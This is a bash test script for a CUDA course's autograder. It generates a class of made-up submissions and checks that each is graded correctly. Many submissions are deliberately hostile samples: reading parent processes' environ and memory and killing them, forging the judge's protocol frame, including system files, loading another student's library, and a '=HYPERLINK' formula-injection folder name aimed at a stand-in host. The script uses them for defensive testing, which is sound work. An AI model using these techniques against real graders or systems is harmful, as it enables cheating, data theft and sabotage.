#!/usr/bin/env bash
# Tests `./course grade-class` on a made-up class of thirty-six, each submission for exercise 02 argmax
# written from the course's own solution or stub. The first seventeen make every mistake and misbehaviour
# of a running program; the ten after them try to get marks without the work, or to harm the gradebook;
# nine more know how the course grades and go for the judge itself (after the table below).
#   alice  the solution, a lone file                      quentin #include "../../solutions/.../argmax.cu"
#   bob    a whole copy of the course, stub untouched,    rachel  #include of the solution by its full path
#          and a broken argmax.cu outside exercises/      sybil   #include "/etc/os-release", a file of the
#   carol  a syntax error                                         machine, for its lines in the errors
#   dave   ties go to the larger index                    trent   #include "/dev/zero", a file that never ends
#   erin   a kernel that never ends                       uma     a file that includes itself without end
#   fiona  the solution, leaving a process of its own
#          running when the test ends
#   frank  the solution, writing past its scratch         victor  a folder named as a spreadsheet formula,
#          buffer (memcheck's to find)                            quotes and commas, and a syntax error
#   grace  the file under another name                    walter  the solution, calling exit(0) in argmax()
#   heidi  the stub, and a grading test edited            xavier  no kernel: its own run_once<> in place of
#          to pass anything                                       the grader's, answering from the CPU
#   ivan   the solution, printing lines that look like    yolanda the stub, with a main of its own (weak)
#          the benchmark's CSV                                    that passes every case
#   judy   the solution, crashing on odd sizes            zack    the stub, that loads alice's compiled
#   kim    the solution, spinning on the CPU                      library at run time and answers with it
#   leo    the solution, taking all the GPU's memory
#   mallory the solution, printing megabytes              peggy   the solution with its comments taken
#   nick   the solution, writing over alice's row and             out (the same code as alice's), graded
#          feedback and outside the grading folder                after them all
#   olivia the solution with a race in shared memory (racecheck's to find)
# And those who have read how grading works:
#   abel   takes COURSE_GRADE_SEAL in a constructor before main() and prints a seal line as it ends
#   bea    reads the seal from /proc/self/environ and its parents', and prints what it finds
#   cyril  prints the benchmark's CSV line of a 0.0001 ms PASS, computing nothing
#   dora   reads the judge's and every ancestor's /proc/PID/mem and environ, and sends them SIGSTOP and
#          SIGKILL (from a constructor too, where the kernel scopes signals)
#   eli    a symbolic link to the course's solution
#   faye   .incbins the solution's file into its own code, the directive spelt in two pieces
#   gus    writes a forged answer frame to the judge's descriptor 4, computing nothing
#   hana   the solution, its kernels on a stream of its own, so that the timing's events see nothing
#   jude   the solution, with a thread of its own started before main()
# Without a GPU every build is checked (who compiles, who is refused and why, which file was found) and
# grading exits 77; on a GPU every verdict is checked too: passes, failures, time-outs, crashes, early
# ends, too much output, the compute-sanitizer findings and what they cost, the points, the
# leaderboard, and that no submission changed another's grading, wrote outside its folder or read what
# is not its own. Then, on the same class:
#   - identical.csv groups alice and peggy (the solution's code) and bob and heidi (the stub), and no
#     feedback mentions it; every gradebook row has its 14 cells, and no cell begins as a formula;
#   - `--only carol zoe` grades carol again (her file fixed) and zoe, who sent hers late, and merges
#     them into the gradebook: every other row is as it was, to the byte;
#   - a flat download of Canvas and Moodle files (a late one, one sent twice, one with notes beside,
#     one without the exercise) is graded as a class: the gradebook's ids, the file graded and the
#     note in each feedback, and the imports in lms/canvas.csv and lms/moodle.csv.
# ./course grade-class runs in a copy of the course, WORK_DIR/course, and builds in its build/, never
# the course's own; COURSE_CMAKE_ARGS (e.g. a compiler launcher) is passed on to it and to the class's
# build.
# Usage: common/tests/test_grade_class.sh [WORK_DIR]   (default: a temporary folder, removed afterwards);
#        CTest runs it as "grading: ./course grade-class ...".
#        common/tests/test_grade_class.sh --make-class DIR   (only writes the class into DIR/class and
#        the course that grades it into DIR/course, for the Slurm test and for timing by hand)
set -euo pipefail
root=$(cd "$(dirname "$0")/../.." && pwd)
make_class_only=0
if [ "${1:-}" = --make-class ]; then
  make_class_only=1
  shift
  [ $# -eq 1 ] || { echo "usage: common/tests/test_grade_class.sh --make-class DIR"; exit 2; }
fi
work=${1:-$(mktemp -d)}
[ $# -gt 0 ] || trap 'rm -rf "$work"' EXIT
fail() {
  echo "FAILED: $*"
  exit 1
}
solution=$root/solutions/02-max-reduction/argmax.cu
stub=$root/exercises/02-max-reduction/argmax.cu
class=$work/class
rm -rf "$class" "$work/grades"
# The course that grades them (./course in it builds in its build/), written first: rachel reaches for
# its own solution by its full path.
bash "$root/common/tests/copy_of_course.sh" "$work/course"
mkdir -p "$class"/{alice,bob,carol,dave,erin,fiona,frank,grace,heidi,ivan,judy,kim,leo,mallory,nick,olivia,peggy}
mkdir -p "$class"/{quentin,rachel,sybil,trent,uma,victor,walter,xavier,yolanda,zack}
mkdir -p "$class"/{abel,bea,cyril,dora,eli,faye,gus,hana,jude}

# edit FILE EXPECTED SED-SCRIPT: applies the script and checks that it changed something.
edit() {
  sed -e "$3" "$1" >"$1.new"
  cmp -s "$1" "$1.new" && fail "the edit for $2 matched nothing in $(basename "$1")"
  mv "$1.new" "$1"
}
cp "$solution" "$class/alice/argmax.cu"
mkdir -p "$class/bob/course/exercises/02-max-reduction" "$class/bob/course/scratch"
cp "$stub" "$class/bob/course/exercises/02-max-reduction/argmax.cu"
echo "this is not C++" >"$class/bob/course/scratch/argmax.cu"
cp "$solution" "$class/carol/argmax.cu"
edit "$class/carol/argmax.cu" carol 's/constexpr int kThreads = 256;/constexpr int kThreads = 256/'
cp "$solution" "$class/dave/argmax.cu"
edit "$class/dave/argmax.cu" dave 's/a.index < b.index/a.index > b.index/'
cp "$solution" "$class/erin/argmax.cu"
edit "$class/erin/argmax.cu" erin 's/^  Best best{-INFINITY, ~0ull};$/  for (;;) __nanosleep(1000);  \/\/ never ends: the asm inside cannot be optimised away\n&/'
cp "$solution" "$class/frank/argmax.cu"
edit "$class/frank/argmax.cu" frank 's/partial\[blockIdx.x\] = best;/{ partial[blockIdx.x] = best; partial[blockIdx.x + gridDim.x] = best; }/'
cp "$solution" "$class/grace/argmax_final.cu"
mkdir -p "$class/heidi/exercises/02-max-reduction"
cp "$stub" "$class/heidi/exercises/02-max-reduction/argmax.cu"
sed -e 's/REQUIRE(/REQUIRE(true || /g' -e 's/CHECK(/CHECK(true || /g' \
  "$root/exercises/02-max-reduction/grade_argmax.cpp" >"$class/heidi/exercises/02-max-reduction/grade_argmax.cpp"
cp "$solution" "$class/ivan/argmax.cu"
edit "$class/ivan/argmax.cu" ivan 's/^  const int blocks = grid_size(n);$/  std::printf("lesson,step,title,kind,size\\nnot,a,measurement\\n");\n&/'
edit "$class/ivan/argmax.cu" ivan 's/^#include <cmath>$/&\n#include <cstdio>/'
cp "$solution" "$class/judy/argmax.cu"
edit "$class/judy/argmax.cu" judy 's/^  const int blocks = grid_size(n);$/  if (n % 2 == 1) std::raise(SIGSEGV);\n&/'
edit "$class/judy/argmax.cu" judy 's/^#include <cmath>$/&\n#include <csignal>/'
# first_call STUDENT CODE: puts C++ CODE at the start of the student's argmax() (the solution's).
first_call() {
  cp "$solution" "$class/$1/argmax.cu"
  edit "$class/$1/argmax.cu" "$1" "s|^  const int blocks = grid_size(n);\$|  $2\n&|"
  edit "$class/$1/argmax.cu" "$1" 's/^#include <cmath>$/&\n#include <cstdio>/'
}
first_call kim 'for (volatile unsigned spin = 0;; spin = spin + 1) {}'
first_call fiona 'if (fork() == 0) { sleep(600); _exit(0); }  // a child left behind, asleep'
edit "$class/fiona/argmax.cu" fiona 's/^#include <cmath>$/&\n#include <unistd.h>/'
first_call leo 'for (void* hog; cudaMalloc(\&hog, std::size_t(1) << 28) == cudaSuccess;) {} (void)cudaGetLastError();'
first_call mallory 'for (int line = 0; line < 2000000; ++line) std::printf("spam spam spam spam spam spam spam spam spam spam\\n");'
first_call nick "if (FILE* f = std::fopen(\"$work/grades/rows/alice.csv\", \"w\")) std::fclose(f); std::remove(\"$work/grades/feedback/alice.txt\"); if (FILE* f = std::fopen(\"$work/outside.txt\", \"w\")) std::fclose(f);"
cp "$solution" "$class/olivia/argmax.cu"
edit "$class/olivia/argmax.cu" olivia 's|^  if (lane == 0) warp_best\[warp\] = best;$|  __shared__ volatile int last_warp;  // every warp writes it, no barrier between: a race\n  if (lane == 0) last_warp = warp;\n&|'
# peggy: the solution less its comment lines, the same code in another file.
sed -e '/^ *\/\//d' "$solution" >"$class/peggy/argmax.cu"
cmp -s "$solution" "$class/peggy/argmax.cu" && fail "peggy's file is the solution's, byte for byte"

# Those after marks without the work, or after the gradebook.
echo '#include "../../solutions/02-max-reduction/argmax.cu"' >"$class/quentin/argmax.cu"
echo "#include \"$work/course/solutions/02-max-reduction/argmax.cu\"" >"$class/rachel/argmax.cu"
echo '#include "/etc/os-release"' >"$class/sybil/argmax.cu"
echo '#include "/dev/zero"' >"$class/trent/argmax.cu"
printf '%s\n' '// Each level includes this file twice: 2^40 includes.' '#if __INCLUDE_LEVEL__ < 40' '#include __FILE__' \
  '#include __FILE__' '#endif' >"$class/uma/argmax.cu"
formula='=HYPERLINK("grades.example"&A1,"see")'
mkdir -p "$class/victor/$formula"
cp "$solution" "$class/victor/$formula/argmax.cu"
edit "$class/victor/$formula/argmax.cu" victor 's/constexpr int kThreads = 256;/constexpr int kThreads = 256/'
cp "$solution" "$class/walter/argmax.cu"
edit "$class/walter/argmax.cu" walter 's/^  const int blocks = grid_size(n);$/  std::exit(0);  \/\/ ends the grading test here, with exit code 0\n&/'
edit "$class/walter/argmax.cu" walter 's/^#include <cmath>$/&\n#include <cstdlib>/'
cat >"$class/xavier/argmax.cu" <<'XAVIER'
// No kernel: the grading test's run_once<ArgmaxExercise>, specialised here to answer from the CPU. In a
// program linked with this file the definition here would stand in for the grader's own.
#include "argmax.h"
#include "exercise_support.h"

namespace course {
template <>
exercise02::ArgMax run_once<exercise02::ArgmaxExercise>(const exercise02::Array& input) {
  return exercise02::ArgmaxExercise::reference(input.values);
}
}  // namespace course

namespace exercise02 {
std::size_t argmax_scratch_bytes(std::size_t) { return 16; }
void argmax(const float*, std::size_t, ArgMax*, void*, cudaStream_t) {}
}  // namespace exercise02
XAVIER
cp "$stub" "$class/yolanda/argmax.cu"
echo '__attribute__((weak)) int main() { return 0; }  // passes every case, if it is the program'"'"'s main' \
  >>"$class/yolanda/argmax.cu"
cat >"$class/zack/argmax.cu" <<'ZACK'
// The stub's answer, unless another student's compiled library can be loaded: then that student's.
#include "argmax.h"

#include <dlfcn.h>
#include <unistd.h>

#include <climits>
#include <string>

namespace exercise02 {
namespace {
// The library of the first student (alice), beside this program's folder, if it can be opened.
void* other() {
  char self[PATH_MAX] = {};
  if (readlink("/proc/self/exe", self, sizeof self - 1) <= 0) return nullptr;
  std::string folder(self);
  folder = folder.substr(0, folder.rfind('/'));
  return dlopen((folder + "/../1/libsubmission.so").c_str(), RTLD_NOW | RTLD_LOCAL);
}
}  // namespace

std::size_t argmax_scratch_bytes(std::size_t n) {
  if (void* library = other())
    if (void* f = dlsym(library, "_ZN10exercise0220argmax_scratch_bytesEm"))
      return reinterpret_cast<std::size_t (*)(std::size_t)>(f)(n);
  return 16;
}

void argmax(const float* values, std::size_t n, ArgMax* result, void* scratch, cudaStream_t stream) {
  if (void* library = other())
    if (void* f = dlsym(library, "_ZN10exercise026argmaxEPKfmPNS_6ArgMaxEPvP11CUstream_st"))
      return reinterpret_cast<void (*)(const float*, std::size_t, ArgMax*, void*, cudaStream_t)>(f)(values, n, result,
                                                                                                    scratch, stream);
}
}  // namespace exercise02
ZACK

# Those who go for the judge. A stub's functions that compute nothing, with CODE in each and TOP at the
# top of the file: nothing_but STUDENT TOP CODE.
nothing_but() {
  cat >"$class/$1/argmax.cu" <<NOTHING
#include "argmax.h"

#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>

$2

namespace exercise02 {
std::size_t argmax_scratch_bytes(std::size_t) { $3 return 16; }
void argmax(const float*, std::size_t, ArgMax*, void*, cudaStream_t) { $3 }
}  // namespace exercise02
NOTHING
}
nothing_but abel 'namespace {
std::string seal;
__attribute__((constructor)) void take_seal() {
  if (const char* word = std::getenv("COURSE_GRADE_SEAL")) seal = word;
  unsetenv("COURSE_GRADE_SEAL");
}
__attribute__((destructor)) void print_seal() { std::printf("\ncourse-grade-seal: %s exit 0\n", seal.c_str()); }
}  // namespace' ''
nothing_but bea 'namespace {
// Every word of /proc/PID/environ that names a seal, for this process and its parents.
void find_seals() {
  for (const std::string& path : {std::string("/proc/self/environ"), "/proc/" + std::to_string(getppid()) + "/environ"}) {
    std::ifstream in(path);
    for (std::string word; std::getline(in, word, static_cast<char>(0));)
      if (word.find("SEAL") != std::string::npos) std::printf("course-grade-seal: %s exit 0\n", word.c_str());
  }
}
}  // namespace' 'find_seals();'
nothing_but cyril '' 'std::printf("lesson,step,title,kind,size,median_ms,min_ms,max_ms,verdict\n02,yours,argmax,gpu,n=40960000,0.0001,0.0001,0.0001,PASS\n");'
nothing_but dora 'namespace {
int parent_of(int pid) {
  std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
  std::string line;
  std::getline(stat, line);
  const std::size_t end = line.rfind(41);  // the closing parenthesis of the command name
  if (end == std::string::npos) return 0;
  std::istringstream rest(line.substr(end + 2));
  std::string state;
  int parent = 0;
  rest >> state >> parent;
  return parent;
}
// The judge is an ancestor: the memory and environment of every ancestor, then SIGSTOP and SIGKILL.
// (A probe first, signal 0: where it is allowed the test says so, rather than stop its own run.)
void reach_out() {
  for (int pid = getppid(); pid > 1; pid = parent_of(pid)) {
    for (const char* what : {"mem", "environ"}) {
      const int fd = open(("/proc/" + std::to_string(pid) + "/" + what).c_str(), O_RDONLY);
      char buffer[256];
      if (fd >= 0 && read(fd, buffer, sizeof buffer) > 0) std::printf("read the %s of process %d\n", what, pid);
      if (fd >= 0) close(fd);
    }
    if (kill(pid, 0) == 0) {
      std::printf("could signal process %d\n", pid);
      continue;
    }
    kill(pid, SIGSTOP);
    kill(pid, SIGKILL);
  }
}
__attribute__((constructor)) void reach_out_before_main() { reach_out(); }
}  // namespace' 'reach_out();'
ln -s "$work/course/solutions/02-max-reduction/argmax.cu" "$class/eli/argmax.cu"
cp "$stub" "$class/faye/argmax.cu"
echo "asm(\".inc\" \"bin \\\"$work/course/solutions/02-max-reduction/argmax.cu\\\"\");  // the solution, into this file's code" \
  >>"$class/faye/argmax.cu"
nothing_but gus '' '// A forged answer on the judge'"'"'s descriptor: the protocol'"'"'s header ("CJW1", Answer, 32 bytes), then one
  // span of 16 bytes claiming a maximum of 0.99999 at index 0.
  unsigned char message[48] = {};
  const std::uint32_t magic = 0x31574A43u, kind = 11;
  const std::uint64_t length = 32, spans = 1, bytes = 16;
  const float value = 0.99999f;
  std::memcpy(message, &magic, 4);
  std::memcpy(message + 4, &kind, 4);
  std::memcpy(message + 8, &length, 8);
  std::memcpy(message + 16, &spans, 8);
  std::memcpy(message + 24, &bytes, 8);
  std::memcpy(message + 32, &value, 4);
  (void)!write(4, message, sizeof message);'
first_call hana 'static cudaStream_t own = [] { cudaStream_t s = nullptr; cudaStreamCreateWithFlags(\&s, cudaStreamNonBlocking); return s; }(); stream = own;  // never joined to the caller'"'"'s'
cp "$solution" "$class/jude/argmax.cu"
printf '%s\n' '#include <chrono>' '#include <thread>' \
  'namespace { const bool started = [] { std::thread([] { for (;;) std::this_thread::sleep_for(std::chrono::seconds(1)); }).detach(); return true; }(); }' \
  >>"$class/jude/argmax.cu"
[ $make_class_only -eq 0 ] || exit 0

status=0
rm -f "$work/outside.txt"
grade() {  # grade OUT-FILE ARGUMENTS...: ./course grade-class 02 argmax ARGUMENTS..., its exit code in $status
  local log=$1
  shift
  status=0
  COURSE_BUILD_DIR=$work/course/build "$work/course/course" grade-class 02 argmax "$@" --time-limit 20 --compile-time-limit 30 \
    >"$work/$log" 2>&1 || status=$?
  [ $status -eq 0 ] || [ $status -eq 77 ] || { tail -20 "$work/$log"; fail "grade-class $* exited with $status"; }
}
grade grade-class.out "$class" --out "$work/grades"
book=$work/grades/gradebook.csv
[ -f "$book" ] || { tail -20 "$work/grade-class.out"; fail "no gradebook (exit code $status)"; }
# cell STUDENT COLUMN: a cell of the gradebook, read as a spreadsheet reads CSV.
cell() {
  python3 - "$book" "$1" "$2" <<'PY' || fail "no gradebook cell $2 for $1"
import csv, sys
rows = [r for r in csv.DictReader(open(sys.argv[1], newline="")) if r["student"] == sys.argv[2]]
sys.exit(1) if len(rows) != 1 else print(rows[0][sys.argv[3]])
PY
}
row() { grep -F "$1," "$book" | head -1; }
# Every row has its 16 cells, and no cell would run as a formula in a spreadsheet.
python3 - "$book" <<'PY' || fail "the gradebook's rows are not all whole, or a cell begins as a formula"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
bad = [r for r in rows if len(r) != 16 or any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in r)]
sys.exit(print(bad) or 1) if bad else None
PY

[ "$(($(wc -l <"$book") - 1))" -eq 36 ] || fail "the gradebook does not have 36 rows"
[ "$(cell bob file)" = "course/exercises/02-max-reduction/argmax.cu" ] || fail "bob's file was not the one in exercises/: $(row bob)"
grep -q 'also found: course/scratch/argmax.cu' "$work/grades/feedback/bob.txt" || fail "bob's feedback does not name his other file"
[ "$(cell carol build)" = "compile error" ] || fail "carol's syntax error was not a compile error: $(row carol)"
grep -q "error" "$work/grades/feedback/carol.txt" || fail "carol's feedback does not show the compiler's error"
[ "$(cell grace build)" = "missing file" ] || fail "grace's misnamed file was not reported missing: $(row grace)"
for student in alice bob dave erin fiona frank heidi ivan judy kim leo mallory nick olivia peggy walter xavier yolanda zack \
  abel bea cyril dora gus hana jude; do
  [ "$(cell "$student" build)" = built ] || fail "$student's submission did not build: $(row "$student")"
done
# A link to the solution, and the solution's bytes through the assembler: refused, each with its one line.
[ "$(cell eli build)" = refused ] && cell eli first_failure | grep -q '^argmax.cu is a symbolic link, which grading does not follow' ||
  fail "eli's link to the solution was not refused with its reason: $(row eli)"
[ "$(cell faye build)" = refused ] &&
  cell faye first_failure | grep -q "^it reads another file into its code with the assembler's .incbin" ||
  fail "faye's .incbin of the solution was not refused with its reason: $(row faye)"
for student in eli faye; do
  [ "$(cell $student points)" = 0 ] || fail "$student earned points: $(row $student)"
  ! grep -q -F 'The solution: two launches' "$work/grades/feedback/$student.txt" || fail "the solution's text reached $student's feedback"
done
[ ! -e "$work/grades/files/eli.cu" ] || fail "eli's link was copied as her file"
# Those who reach for files that are not the exercise's: zero, with a reason of one line, and nothing
# of those files in their feedback.
[ "$(cell quentin build)" = "compile error" ] && cell quentin first_failure | grep -q 'No such file' ||
  fail "quentin's include of the solution by a relative path was found: $(row quentin)"
for student in rachel sybil; do
  [ "$(cell $student build)" = refused ] && cell $student first_failure | grep -q '^it includes .*, outside what a submission may include' ||
    fail "$student's include of a file outside the exercise was not refused: $(row $student)"
done
! grep -q -E 'PRETTY_NAME|VERSION_ID|HOME_URL' "$work/grades/feedback/sybil.txt" || fail "the lines of /etc/os-release reached sybil's feedback"
for student in quentin rachel; do
  ! grep -q -F 'The solution: two launches' "$work/grades/feedback/$student.txt" || fail "the solution's text reached $student's feedback"
done
[[ $(cell trent build) =~ ^(refused|compile\ time-out|compile\ error)$ ]] || fail "trent's endless file was compiled: $(row trent)"
# (Stopped by the time limit, or on a fast machine by the size of the compiler's temporary file first.)
{ [ "$(cell uma build)" = "compile time-out" ] && cell uma first_failure | grep -q 'time limit (30 s)'; } ||
  { [ "$(cell uma build)" = "compile error" ] && cell uma first_failure | grep -q -E 'reached the file-size limit|out of memory|met a limit'; } ||
  fail "uma's endless includes were not stopped by a compile limit: $(row uma)"
for student in quentin rachel sybil trent uma victor; do
  [ "$(cell $student points)" = 0 ] && [ -n "$(cell $student first_failure)" ] || fail "$student earned points or has no reason: $(row $student)"
done
# victor's folder, a formula with quotes and commas, is text in his row, which holds its 14 cells.
[ "$(cell victor file)" = "'$formula/argmax.cu" ] || fail "victor's file cell is not his path as text: $(cell victor file)"
[[ $(cell victor first_failure) == "'$formula/argmax.cu"* ]] || fail "victor's first failure is not text: $(cell victor first_failure)"
# What only the instructor sees.
ids=$work/grades/identical.csv
grep -q -x '[0-9]*,same file,bob; heidi,[0-9a-f]*,"the course'"'"'s stub, unchanged"' "$ids" || fail "bob and heidi (the stub) are not a group: $(cat "$ids")"
grep -q -x '[0-9]*,same file,alice,[0-9a-f]*,the course'"'"'s solution' "$ids" || fail "alice's copy of the solution is not named: $(cat "$ids")"
grep -q -x '[0-9]*,same code (comments and spacing aside),alice; peggy,,the course'"'"'s solution' "$ids" ||
  fail "alice and peggy (the same code) are not a group: $(cat "$ids")"
! grep -r -q -i 'identical' "$work/grades/feedback" || fail "a student's feedback mentions identical files"

if [ $status -eq 77 ]; then
  grep -q 'no CUDA device' "$work/grade-class.out" || fail "without a GPU, grade-class did not say why nothing ran"
  for student in alice bob dave erin fiona frank heidi ivan judy kim leo mallory nick olivia peggy walter xavier yolanda zack; do
    [ "$(cell "$student" first_failure)" = "not run: no CUDA device" ] || fail "$student's row does not say it was not run"
  done
else
  total=$(cell alice points_total)
  cost=$(((total + 1) / 2))  # what a compute-sanitizer finding costs (argmax.points does not say)
  for student in alice peggy; do  # the solution, before and after the others
    [ "$(cell $student points)" = "$total" ] && [ "$(cell $student cases_passed)" = "$(cell $student cases_total)" ] ||
      fail "$student (the solution) lost points: $(row $student)"
    [ -n "$(cell $student time_ms)" ] || fail "$student passed but has no time: $(row $student)"
    [ "$(cell $student sanitizer)" = clean ] || fail "compute-sanitizer found something in $student's (the solution): $(row $student)"
    grep -q "^compute-sanitizer (memcheck racecheck synccheck) on the small size (--n 1000003): no error" \
      "$work/grades/feedback/$student.txt" || fail "$student's feedback does not say which sanitizers ran"
    for n in 1 2; do grep -q "^PASS  hidden case $n\$" "$work/grades/feedback/$student.txt" || fail "$student did not pass hidden case $n"; done
  done
  ! grep -r -q '(hidden)' "$work/grades/feedback" || fail "a hidden case's name reached a student's feedback"
  [ "$(cell ivan cases_passed)" = "$(cell ivan cases_total)" ] && [ -n "$(cell ivan time_ms)" ] || fail "ivan's printing cost him his time or his cases: $(row ivan)"
  [ "$(cell bob points)" -lt "$total" ] || fail "bob's untouched stub earned full points: $(row bob)"
  [ "$(cell heidi points)" -lt "$total" ] || fail "heidi's edited test was used: $(row heidi)"
  grep -q 'FAIL  argmax: a repeated maximum is reported at its first index' "$work/grades/feedback/dave.txt" ||
    fail "dave's ties to the larger index did not fail the repeated-maximum case"
  grep -A1 '^FAIL  hidden case 1$' "$work/grades/feedback/dave.txt" | tail -1 | grep -q -E '^(PASS|FAIL|$)' ||
    fail "dave's failed hidden case shows its details"
  grep -q 'TIME-OUT' "$work/grades/feedback/erin.txt" || fail "erin's endless kernel was not a time-out"
  [ "$(grep -c '^NOT RUN' "$work/grades/feedback/erin.txt")" -eq $(($(cell erin cases_total) - 1)) ] ||
    fail "erin's cases after her time-out were not all left unrun"
  [ "$(cell frank cases_passed)" = "$(cell frank cases_total)" ] || fail "frank's answers are right, yet he lost cases: $(row frank)"
  [ "$(cell frank sanitizer)" = "memory error (memcheck)" ] && [ "$(cell frank points)" -eq $((total - cost)) ] ||
    fail "frank's write past the scratch was not found by memcheck, or did not cost $cost points: $(row frank)"
  grep -q -E '^      ========= +Invalid __global__ write' "$work/grades/feedback/frank.txt" ||
    fail "frank's feedback does not show memcheck's report"
  [ "$(cell olivia sanitizer)" = "race (racecheck)" ] && [ "$(cell olivia points)" -eq $((total - cost)) ] ||
    fail "olivia's race in shared memory was not found by racecheck, or did not cost $cost points: $(row olivia)"
  grep -q 'TIME-OUT' "$work/grades/feedback/kim.txt" || fail "kim's spinning was not a time-out"
  # fiona's child outlives each test: named for what it is, at once, not as a time-out of any limit.
  grep -q '^LEFT A PROCESS RUNNING' "$work/grades/feedback/fiona.txt" && ! grep -q 'TIME-OUT' "$work/grades/feedback/fiona.txt" ||
    fail "fiona's process left running was not named so: $(row fiona)"
  [ "$(cell fiona points)" = 0 ] || fail "fiona scored with a process left running: $(row fiona)"
  # leo's own cases may fail for want of memory; the memory is back for those after him (nick, peggy).
  [[ $(cell leo cases_passed) =~ ^[0-9]+$ ]] || fail "leo was not graded: $(row leo)"
  grep -q '^TOO MUCH OUTPUT' "$work/grades/feedback/mallory.txt" || fail "mallory's megabytes of output were not stopped"
  [ "$(stat -c %s "$work/grades/feedback/mallory.txt")" -lt 200000 ] || fail "mallory's megabytes reached her feedback"
  grep -q 'CRASH' "$work/grades/feedback/judy.txt" || fail "judy's crash on odd sizes was not reported as a crash"
  [ "$(cell judy cases_passed)" -gt 0 ] || fail "judy's crash on odd sizes cost her every case: $(row judy)"
  # Marks without the work: none.
  grep -q '^ENDED EARLY' "$work/grades/feedback/walter.txt" || fail "walter's exit(0) was not an early end"
  for student in walter xavier yolanda abel bea cyril dora gus; do
    [ "$(cell $student points)" = 0 ] && [ -n "$(cell $student first_failure)" ] ||
      fail "$student earned points without a kernel, or has no reason: $(row $student)"
  done
  # dora went for the judge: it finished every case (no case ungraded), and where the sandbox confines
  # she read no ancestor's memory and could signal none of them. (Environments hold no secret: as root,
  # who may read any process's, she reads them.)
  ! grep -q '^NOT GRADED' "$work/grades/feedback/dora.txt" || fail "dora stopped the judge: $(grep -m1 '^NOT GRADED' "$work/grades/feedback/dora.txt")"
  [ "$(grep -c '^FAIL  ' "$work/grades/feedback/dora.txt")" -eq "$(cell dora cases_total)" ] || fail "dora's cases were not all judged FAIL"
  if "$work/course/build/bin/course_sandbox" --check | grep -q "their signals too"; then
    ! grep -q -E 'could signal|read the mem' "$work/grades/builds/run/dora.printed" ||
      fail "dora reached an ancestor: $(grep -m2 -E 'could signal|read the mem' "$work/grades/builds/run/dora.printed")"
  fi
  # Right answers, but a time the judge cannot stand behind: none, and no place on the leaderboard.
  for student in hana jude; do
    [ "$(cell $student points)" = "$total" ] && [ -z "$(cell $student time_ms)" ] ||
      fail "$student should have every point and no time: $(row $student)"
  done
  grep -q '^time: not trusted: ' "$work/grades/feedback/hana.txt" ||
    fail "hana's time, her kernels unseen by the events, was not refused: $(grep '^time' "$work/grades/feedback/hana.txt")"
  grep -q "^time: not measured: your program reported: it started a thread before main()" "$work/grades/feedback/jude.txt" ||
    fail "jude's thread before main() did not stop her timing: $(grep '^time' "$work/grades/feedback/jude.txt")"
  for student in abel bea cyril dora gus hana jude; do
    ! grep -q "^[0-9]*,$student," "$work/grades/leaderboard.csv" || fail "$student is on the leaderboard"
  done
  if "$work/course/build/bin/course_sandbox" --check >/dev/null; then
    [ ! -e "$work/outside.txt" ] || fail "nick wrote outside his folder"
    [ -f "$work/grades/feedback/alice.txt" ] || fail "nick removed alice's feedback"
    [ "$(cell nick cases_passed)" = "$(cell nick cases_total)" ] && [ "$(cell nick sanitizer)" = clean ] ||
      fail "nick's failed writes changed his grade: $(row nick)"
    [ "$(cell zack points)" = 0 ] || fail "zack earned points with alice's library: $(row zack)"
  else
    echo "not checked: that nick cannot write outside his folder, nor zack read alice's ($("$work/course/build/bin/course_sandbox" --check))"
  fi
  for student in frank olivia dave walter xavier yolanda zack; do
    ! grep -q "^[0-9]*,$student," "$work/grades/leaderboard.csv" || fail "$student is on the leaderboard"
  done
  grep -q '^[0-9]*,peggy,' "$work/grades/leaderboard.csv" || fail "peggy (the solution, graded last) is not on the leaderboard"
fi
first_status=$status

# --- a regrade and a late student: --only, merged into the gradebook --------------------------------
grep -v -e '^carol,' "$book" >"$work/others-before.csv"
cp "$solution" "$class/carol/argmax.cu"
mkdir -p "$class/zoe"
cp "$solution" "$class/zoe/argmax.cu"
grade only.out "$class" --out "$work/grades" --only carol zoe
[ "$(($(wc -l <"$book") - 1))" -eq 37 ] || fail "after --only the gradebook does not have 37 rows"
diff "$work/others-before.csv" <(grep -v -e '^carol,' -e '^zoe,' "$book") ||
  fail "--only carol zoe changed other students' rows (above)"
for student in carol zoe; do
  [ "$(cell $student build)" = built ] || fail "--only did not grade $student: $(row $student)"
  [ $status -eq 77 ] || [ "$(cell $student points)" = "$(cell alice points_total)" ] || fail "$student's fixed file lost points: $(row $student)"
done
grep -q 'building 2 submissions' "$work/only.out" || fail "--only built more than the two: $(grep building "$work/only.out")"

# --- one run at a time in a grading folder -------------------------------------------------------------
# Another run holds the folder's lock (as a run does while it grades): a second is refused at once, in
# one line, and nothing of the gradebook changes.
cp "$book" "$work/book-before.csv"
flock -o "$work/grades/.lock" sleep 120 &  # -o: the lock is flock's own, gone with it
holder=$!
sleep 1
SECONDS=0
status=0
COURSE_BUILD_DIR=$work/course/build "$work/course/course" grade-class 02 argmax "$class" --out "$work/grades" --only carol \
  >"$work/second.out" 2>&1 || status=$?
kill $holder 2>/dev/null
wait $holder 2>/dev/null || true
[ $status -eq 2 ] && grep -q "is being graded by another run of grade-class" "$work/second.out" ||
  fail "a second run on a folder being graded was not refused: $(tail -3 "$work/second.out")"
[ $SECONDS -lt 60 ] || fail "the second run was refused only after $SECONDS s"
cmp -s "$book" "$work/book-before.csv" || fail "the refused run changed the gradebook"

# --- a flat download from the learning platforms: Canvas's and Moodle's file names ------------------
download=$work/download
rm -rf "$download"
mkdir -p "$download"
cp "$stub" "$download/doejane_4207_81234_argmax.cu"
cp "$solution" "$download/doejane_late_4207_81240_argmax-1.cu"  # sent again, late: Canvas numbers the copy
echo "my notes" >"$download/doejane_4207_81241_notes.txt"
cp "$solution" "$download/Mark Ray_555_assignsubmission_file_argmax.cu"
cp "$solution" "$download/smithjo_12_13_argmax_final.cu"
echo "read me" >"$download/README.txt"
grade download.out "$download" --out "$work/grades" --assignment "Argmax (4417)" --points-possible 10
# A full run over a folder that held a gradebook keeps it, its feedback too.
kept=$(ls -d "$work"/grades/earlier/*/ 2>/dev/null | tail -1)
[ -n "$kept" ] && [ "$(($(wc -l <"$kept/gradebook.csv") - 1))" -eq 37 ] && [ -f "$kept/feedback/alice.txt" ] ||
  fail "the class's gradebook was not kept in earlier/ when the download was graded into the folder"
